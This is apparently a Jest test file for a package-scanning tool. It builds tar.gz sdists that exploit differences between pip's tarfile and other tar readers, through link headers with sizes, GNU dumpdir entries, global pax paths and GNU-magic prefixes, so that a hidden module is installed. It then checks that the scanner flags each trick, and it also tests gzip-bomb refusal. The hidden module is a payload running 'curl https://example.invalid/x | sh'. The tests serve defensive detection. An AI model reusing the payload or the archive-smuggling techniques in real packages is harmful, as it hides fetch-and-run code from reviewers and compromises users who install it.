import { describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { CurrentContext } from '../../src/judge/types.js'
import { unsafeArchiveEntry } from '../../src/judge/unsafe-archive-entry.js'
import { readArchive } from '../../src/read/read-archive.js'
import type { Archive } from '../../src/read/types.js'
import { END, header, member, pax, writeTarGz } from '../helpers/tar-bytes.js'
import { tarfileOracle, unexplained } from '../helpers/tarfile-oracle.js'
import { pkgInfo, tempDir } from '../helpers/sdist.js'
import { runCli } from '../helpers/target.js'

// Each archive below put `os.system(…)` into what pip's untar_file extracts while the reader showed
// something else. Now the reader shows what tarfile extracts, and flags what other tar readers see.
const EVIL = 'import os\nos.system("curl https://example.invalid/x | sh")\n'
const BENIGN = '__version__ = "1.0"\n'
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')

const start = () => [
  member({ name: 'demo-1.0/PKG-INFO' }, pkgInfo('demo', '1.0')),
  member({ name: 'demo-1.0/demo/', type: '5' })
]

/** Our reading and tarfile's (as pip's untar_file uses it) of the archive made of `blocks`. */
async function readBoth(name: string, ...blocks: Buffer[]) {
  const file = writeTarGz(join(tempDir(), `${name}-1.0.tar.gz`), ...blocks)
  const sdist = await readArchive(file)
  const [oracle] = tarfileOracle([file])
  const pipFile = (path: string) =>
    oracle?.members?.filter(m => m.name === path && m.sha256).pop()?.sha256
  return { file, sdist, oracle: oracle!, pipFile, unexplained: unexplained(file, sdist, oracle!) }
}

/** The high findings unsafe-archive-entry reports on `sdist`. */
function findings(sdist: Archive): { path?: string; message: string }[] {
  expect(unsafeArchiveEntry.defaultSeverity).toBe('high')
  return unsafeArchiveEntry
    .check({ archive: sdist } as unknown as CurrentContext)
    .map(({ path, message }) => ({ path, message }))
}

describe('tar entries that pip extracts differently from what other readers show', () => {
  it.each(['2', '1'])(
    'a link header (type %s) with a size, followed by a member: pip installs the member, and it is flagged',
    async type => {
      const hidden = member({ name: 'demo-1.0/demo/__init__.py' }, EVIL)
      const { sdist, pipFile, unexplained } = await readBoth(
        'linksize',
        ...start(),
        member({ name: 'demo-1.0/demo/__init__.py' }, BENIGN),
        header({ name: 'demo-1.0/link', type, linkname: 'demo-1.0/PKG-INFO', size: hidden.length }),
        hidden,
        END
      )
      expect(pipFile('demo/__init__.py')).toBe(sha256(EVIL))
      expect(sdist.entries.get('demo/__init__.py')?.sha256).toBe(sha256(EVIL))
      expect(unexplained).toEqual([])
      const kind = type === '2' ? 'SymbolicLink' : 'Link'
      expect(findings(sdist)).toEqual(
        expect.arrayContaining([
          {
            path: 'link',
            message: `link: ${kind} header declares 1024 bytes of data: pip's tarfile reads none and takes the next header right after it, GNU tar and node-tar skip those bytes`
          },
          {
            path: 'demo/__init__.py',
            message:
              'demo/__init__.py: read by pip\'s tarfile from bytes that GNU tar and node-tar skip as the data of "demo-1.0/link"'
          }
        ])
      )
    }
  )

  it.each([
    ['a new path', 'demo-1.0/demo/evil.py', 'demo/evil.py'],
    ["an existing module's path", 'demo-1.0/demo/__init__.py', 'demo/__init__.py']
  ])(
    'a GNU dumpdir (D) entry holding a module at %s: read as the file pip extracts, and flagged',
    async (_, name, path) => {
      const { sdist, pipFile, oracle, unexplained } = await readBoth(
        'dumpdir',
        ...start(),
        member({ name: 'demo-1.0/demo/__init__.py' }, BENIGN),
        member({ name, type: 'D' }, EVIL),
        END
      )
      expect(oracle.members?.find(m => m.name === path && m.rawType === 'D')?.type).toBe('unknown')
      expect(pipFile(path)).toBe(sha256(EVIL))
      expect(sdist.entries.get(path)).toMatchObject({ type: 'file', sha256: sha256(EVIL) })
      expect(unexplained).toEqual([])
      expect(findings(sdist)).toContainEqual({
        path,
        message: `${path}: GNUDumpDir tar entry: pip's tarfile reads it as a regular file of ${EVIL.length} bytes (pip extracts it as one where Python lacks tarfile's data filter, and refuses the archive where it has it); GNU tar and node-tar do not read a file`
      })
    }
  )

  it('a global pax header with a path record: tarfile names the next member by it, and it is flagged', async () => {
    const { file, sdist, pipFile, unexplained } = await readBoth(
      'globalpath',
      ...start(),
      member({ name: 'demo-1.0/demo/__init__.py' }, BENIGN),
      pax('g', [['path', 'demo-1.0/demo/__init__.py']]),
      member({ name: 'demo-1.0/README' }, EVIL),
      END
    )
    expect(pipFile('demo/__init__.py')).toBe(sha256(EVIL))
    expect(sdist.entries.get('demo/__init__.py')?.sha256).toBe(sha256(EVIL))
    expect(sdist.entries.has('README')).toBe(false)
    expect(unexplained).toEqual([])
    const archive = file.split('/').pop()
    expect(findings(sdist)).toEqual(
      expect.arrayContaining([
        {
          path: 'demo/__init__.py',
          message:
            'demo/__init__.py: named by a global pax header (its own headers say "demo-1.0/README"): pip\'s tarfile applies global paths, node-tar ignores them'
        },
        {
          path: archive,
          message: `${archive}: a global pax header sets path for every entry after it: pip's tarfile applies them, node-tar ignores a global path`
        }
      ])
    )
  })

  it('a ustar prefix field under GNU magic: tarfile joins it, and it is flagged', async () => {
    const { sdist, pipFile, unexplained } = await readBoth(
      'gnuprefix',
      ...start(),
      member({ name: '__init__.py', prefix: 'demo-1.0/demo', magic: 'ustar  \0' }, EVIL),
      END
    )
    expect(pipFile('demo/__init__.py')).toBe(sha256(EVIL))
    expect(sdist.entries.get('demo/__init__.py')?.sha256).toBe(sha256(EVIL))
    expect(unexplained).toEqual([])
    expect(findings(sdist)).toContainEqual({
      path: 'demo/__init__.py',
      message:
        'demo/__init__.py: named with the ustar prefix field "demo-1.0/demo" in a header without ustar\'s magic: pip\'s tarfile joins it, GNU tar and node-tar read the name without it'
    })
  })

  it('the same prefix under POSIX ustar magic is an ordinary long name: no finding', async () => {
    const { sdist, unexplained } = await readBoth(
      'ustarprefix',
      ...start(),
      member({ name: '__init__.py', prefix: 'demo-1.0/demo' }, BENIGN),
      END
    )
    expect(unexplained).toEqual([])
    expect(sdist.entries.get('demo/__init__.py')?.sha256).toBe(sha256(BENIGN))
    expect(sdist.unsafe).toEqual([])
  })

  it('end to end: the CLI reports the hidden module high, naming the path pip installs', async () => {
    const dir = tempDir()
    const previous = writeTarGz(
      join(tempDir(), 'demo-0.9.tar.gz'),
      member({ name: 'demo-0.9/PKG-INFO' }, pkgInfo('demo', '0.9')),
      member({ name: 'demo-0.9/demo/__init__.py' }, BENIGN),
      END
    )
    const hidden = member({ name: 'demo-1.0/demo/__init__.py' }, EVIL)
    const current = writeTarGz(
      join(dir, 'demo-1.0.tar.gz'),
      member({ name: 'demo-1.0/PKG-INFO' }, pkgInfo('demo', '1.0')),
      member({ name: 'demo-1.0/demo/__init__.py' }, BENIGN),
      header({ name: 'demo-1.0/link', type: '2', linkname: 'PKG-INFO', size: hidden.length }),
      hidden,
      END
    )
    const result = await runCli(['--previous', previous, current, '--format', 'json'])
    const [report] = JSON.parse(result.stdout).packages
    expect(report.risk).toBe('high')
    expect(report.findings).toContainEqual(
      expect.objectContaining({
        rule: 'unsafe-archive-entry',
        severity: 'high',
        path: 'demo/__init__.py'
      })
    )
  })
})

describe('a header declaring more than the archive cap', () => {
  it('is refused at the header, before its bytes are inflated', async () => {
    const file = join(tempDir(), 'bomb-1.0.tar.gz')
    // A real gzip stream: PKG-INFO, then a header declaring 3 GiB and only 64 KiB of its zeros.
    const tar = Buffer.concat([
      member({ name: 'bomb-1.0/PKG-INFO' }, pkgInfo('bomb', '1.0')),
      header({ name: 'bomb-1.0/zeros', size: 3 * 1024 ** 3 }),
      Buffer.alloc(64 * 1024)
    ])
    writeFileSync(file, gzipSync(tar))
    await expect(readArchive(file)).rejects.toThrow(
      `${file}: its entry "bomb-1.0/zeros" declares more than the 2048 MiB an archive may expand to (a gzip bomb?); refused at its header, before inflating it`
    )
  })

  it('so is a pax size record declaring it, and a link declaring it is only flagged', async () => {
    const dir = tempDir()
    const huge = String(3 * 1024 ** 3)
    const sized = writeTarGz(
      join(dir, 'sized-1.0.tar.gz'),
      member({ name: 'sized-1.0/PKG-INFO' }, pkgInfo('sized', '1.0')),
      pax('x', [['size', huge]]),
      header({ name: 'sized-1.0/zeros' }),
      END
    )
    await expect(readArchive(sized)).rejects.toThrow(/its entry "sized-1.0\/zeros" declares more/)
    const linked = writeTarGz(
      join(dir, 'linked-1.0.tar.gz'),
      member({ name: 'linked-1.0/PKG-INFO' }, pkgInfo('linked', '1.0')),
      pax('x', [['size', huge]]),
      header({ name: 'linked-1.0/link', type: '2', linkname: 'PKG-INFO' }),
      END
    )
    const sdist = await readArchive(linked)
    expect(sdist.unsafe.map(u => u.path)).toEqual(['link'])
    expect(unexplained(linked, sdist, tarfileOracle([linked])[0]!)).toEqual([])
  })
})
